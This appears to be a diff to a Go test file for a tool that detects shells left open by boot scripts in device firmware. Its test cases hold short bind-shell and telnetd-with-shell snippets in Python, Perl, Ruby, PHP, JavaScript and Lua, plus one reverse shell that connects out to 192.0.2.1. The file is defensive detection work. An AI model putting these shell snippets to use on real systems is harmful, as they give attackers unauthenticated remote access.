@@ -1,6 +1,7 @@
 package facts
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -21,6 +22,7 @@ func TestReadCall(t *testing.T) {
 		{"Python", "os.execv(", `"/bin/sh", "sh", "-c", "x")`, "/bin/sh|-c|x"},
 		{"Python", "os.system(", `"""telnetd"""`, "telnetd"},
 		{"Python", "os.system(", `)`, ""},
+		{"Python", "os.execvp(", `"telnetd", ["telnetd", "-l", "/bin/sh"])`, "telnetd|-l|/bin/sh"},
 		{"Lua", "os.execute(", `"telnetd -l sh")`, "telnetd -l sh"},
 		{"Lua", "os.execute ", `"killall " .. name`, "killall ${ARG}"},
 		{"Lua", "io.popen(", `string.format("ping -c %d %s", n, host), "r")`, "ping -c ${ARG} ${ARG}"},
@@ -71,6 +73,26 @@ func TestBootOfOtherLanguages(t *testing.T) {
 		{"words of a manual", files("/opt/app/main", "#!/usr/bin/perl\nprint 1;\n__END__\n system($x) or exec it\n"), "main", 0},
 		{"PHP", files("php /opt/app/main", "<?php shell_exec('telnetd');\n"), "php telnetd?", 0},
 		{"JavaScript", files("node /opt/app/main", "const { exec } = require('child_process');\nexec('telnetd');\n"), "node telnetd?", 0},
+		{"Perl, bare words", files("perl /opt/app/main", "exec qw(telnetd -l /bin/sh);\n"), "perl telnetd?", 0},
+		{"Perl, a pipe", files("perl /opt/app/main", "open(my $f, '-|', 'telnetd -l /bin/sh');\n"), "perl telnetd?", 0},
+		{"Perl, a file", files("perl /opt/app/main", "open(my $f, '<', 'telnetd');\n"), "perl", 0},
+		{"Ruby, bare words", files("ruby /opt/app/main", "exec(*%w[telnetd -l /bin/sh])\n", "usr/bin/ruby", ""), "ruby telnetd?", 0},
+		{"Ruby, of its module", files("ruby /opt/app/main", "Process.spawn('telnetd', '-l', '/bin/sh')\n", "usr/bin/ruby", ""), "ruby telnetd?", 0},
+		{"PHP, exec", files("php /opt/app/main", "<?php pcntl_exec('/usr/sbin/telnetd', ['-l', '/bin/sh']);\n"), "php telnetd?", 0},
+		{"JavaScript, renamed", files("node /opt/app/main", "const {spawnSync:s}=require(\"child_process\"); s(\"telnetd\",[\"-l\",\"/bin/sh\"]);\n"), "node telnetd?", 0},
+		{"JavaScript, imported", files("node /opt/app/main", "import { exec as run } from 'node:child_process';\nrun('telnetd');\n"), "node telnetd?", 0},
+		{"JavaScript, the module renamed", files("node /opt/app/main", "const c = require('child_process');\nc.execFile('telnetd', ['-p', '23']);\n"), "node telnetd?", 0},
+		{"JavaScript, a function kept", files("node /opt/app/main", "const c = require('child_process');\nconst run = util.promisify(c.exec);\nrun('telnetd');\n"), "node telnetd?", 0},
+		{"JavaScript, another function", files("node /opt/app/main", "const { fork: s } = require('child_process');\ns('telnetd');\n"), "node", 0},
+		{"JavaScript, another module", files("node /opt/app/main", "require('child_process'); const { exec: s } = require('./db');\ns('telnetd');\n"), "node", 0},
+		{"Python, renamed", files("python3 /opt/app/main", "from os import system as s, path\ns('telnetd')\n"), "python3 telnetd?", 0},
+		{"Python, imported", files("python3 /opt/app/main", "from subprocess import run, PIPE\nrun(['telnetd', '-l', '/bin/sh'])\n"), "python3 telnetd?", 0},
+		{"Python, the module renamed", files("python3 /opt/app/main", "import subprocess as p\np.Popen(['telnetd', '-l', '/bin/sh'])\n"), "python3 telnetd?", 0},
+		{"Python, another module", files("python3 /opt/app/main", "from app import run\nrun(['telnetd'])\n"), "python3", 0},
+		{"Python, by a list with its own name", files("python3 /opt/app/main", "os.execvp('telnetd', ['telnetd', '-l', '/bin/sh'])\n"), "python3 telnetd?", 0},
+		{"Ruby, marks of a command", files("ruby /opt/app/main", "`telnetd -l /bin/sh`\n", "usr/bin/ruby", ""), "ruby telnetd?", 0},
+		{"Python, by a terminal", files("python3 /opt/app/main", "pexpect.spawn('telnetd -l /bin/sh')\n"), "python3 telnetd?", 0},
+		{"Lua, kept", files("lua /opt/app/main", "local e = os.execute\ne('telnetd -l /bin/sh')\n"), "lua telnetd?", 0},
 		{"a regular expression", files("node /opt/app/main", "const cp = require('child_process');\nconst m = /x/.exec(line);\n"), "node", 0},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -97,4 +119,47 @@ func FuzzReadCall(f *testing.F) {
 			t.Errorf("%d words", len(words))
 		}
 	})
+}
+
+func TestBootShellsOfOtherLanguages(t *testing.T) {
+	for _, tc := range []struct {
+		name, by, program, want string
+	}{
+		{"Python", "python3", "import pty, socket, os\ns=socket.socket(); s.bind((\"0.0.0.0\",4444)); s.listen(1)\nc,a=s.accept()\nfor f in (0,1,2): os.dup2(c.fileno(),f)\npty.spawn(\"/bin/sh\")\n", "shell 4444"},
+		{"Python, by a list", "python3", "s.bind(('', 4445))\nc,a=s.accept()\nsubprocess.call(['/bin/sh','-i'], stdin=c, stdout=c)\n", "shell 4445"},
+		{"Python, replaced", "python3", "s.bind(('', 4446))\nos.dup2(c.fileno(),0)\nos.execv('/bin/sh', ['/bin/sh'])\n", "shell 4446"},
+		{"Python, from the device alone", "python3", "s.bind(('127.0.0.1',4444))\nos.dup2(c.fileno(),0)\npty.spawn('/bin/sh')\n", ""},
+		{"Python, outward", "python3", "s.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n", "away"},
+		{"Python, a page with a terminal", "python3", "app.run(host='0.0.0.0')\npty.spawn('/bin/sh')\n", "main waits for connections and starts a shell"},
+		{"Python, a login", "python3", "s.bind(('',4444))\nos.dup2(c.fileno(),0)\npty.spawn('/bin/login')\n", ""},
+		{"Python, a script", "python3", "s.bind(('',4444))\nos.dup2(c.fileno(),0)\nos.system('/bin/sh /etc/x.sh')\n", ""},
+		{"Python, a line", "python3", "s.bind(('',4444))\nsubprocess.run(['sh','-c','date'], stdin=None)\n", ""},
+		{"JavaScript", "node", "const cp=require('child_process');\nnet.createServer(c=>{const s=cp.spawn('/bin/sh',[]);c.pipe(s.stdin);s.stdout.pipe(c)}).listen(4447);\n", "shell 4447"},
+		{"JavaScript, from the device alone", "node", "const cp=require('child_process');\nnet.createServer(c=>{const s=cp.spawn('/bin/sh',[]);c.pipe(s.stdin)}).listen(4447, '127.0.0.1');\n", ""},
+		{"Perl", "perl", "$s=IO::Socket::INET->new(LocalPort=>4448,Listen=>1);\n$c=$s->accept; open(STDIN,'<&',$c);\nexec '/bin/sh';\n", "shell 4448"},
+		{"Ruby", "ruby", "s=TCPServer.new(4449)\nc=s.accept\nexec('/bin/sh', :in=>c, :out=>c)\n", "shell 4449"},
+		{"PHP", "php", "<?php $s=stream_socket_server('tcp://0.0.0.0:4450'); $c=stream_socket_accept($s);\nproc_open('/bin/sh', [$c,$c,$c], $p);\n", "shell 4450"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			g := bootOf(t, map[string]string{
+				"etc/inittab": toRcS, "etc/init.d/rcS": "#!/bin/sh\n" + tc.by + " /opt/app/main &\n", "opt/app/main": tc.program, "usr/bin/" + tc.by: "",
+				"bin/sh": "-> busybox", "bin/login": "-> busybox", "etc/x.sh": "#!/bin/sh\ndate\n", "bin/date": "-> busybox",
+			})
+			got := ""
+			for _, s := range g.Services {
+				if s.Shell && s.Reachable() && s.Anonymous == Yes && len(s.Listens) == 1 {
+					got += fmt.Sprintf("shell %d", s.Listens[0].Port)
+				}
+			}
+			if len(g.Outward) > 0 {
+				got += "away"
+			}
+			for _, u := range g.Inits[0].Unjudged {
+				got += u.Reason
+			}
+			if got != tc.want {
+				t.Errorf("got %q, want %q", got, tc.want)
+			}
+		})
+	}
 }
